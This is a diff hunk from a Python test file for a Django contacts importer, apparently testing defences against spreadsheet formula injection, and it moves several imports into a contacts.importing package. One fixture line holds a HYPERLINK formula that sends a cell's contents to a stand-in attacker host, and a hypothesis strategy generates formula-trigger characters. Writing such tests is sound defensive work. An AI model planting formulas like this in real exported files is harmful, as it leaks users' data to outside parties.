@@ -12,10 +12,10 @@ from django.core.management import CommandError, call_command
 from hypothesis import given
 from hypothesis import strategies as st
 
-from contacts.cleaning import Options, content
-from contacts.error_files import safe_cell
+from contacts.importing.error_file import safe_cell
+from contacts.importing.row import Options, content
+from contacts.importing.tabular import FORMULA
 from contacts.models import Contact
-from contacts.tabular import FORMULA
 
 LINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 CELLS = st.text(st.sampled_from([*"'=+-@\t\r\n ,;\"x5\u00a0", "\uff1d", "\uff0d"]), max_size=8)
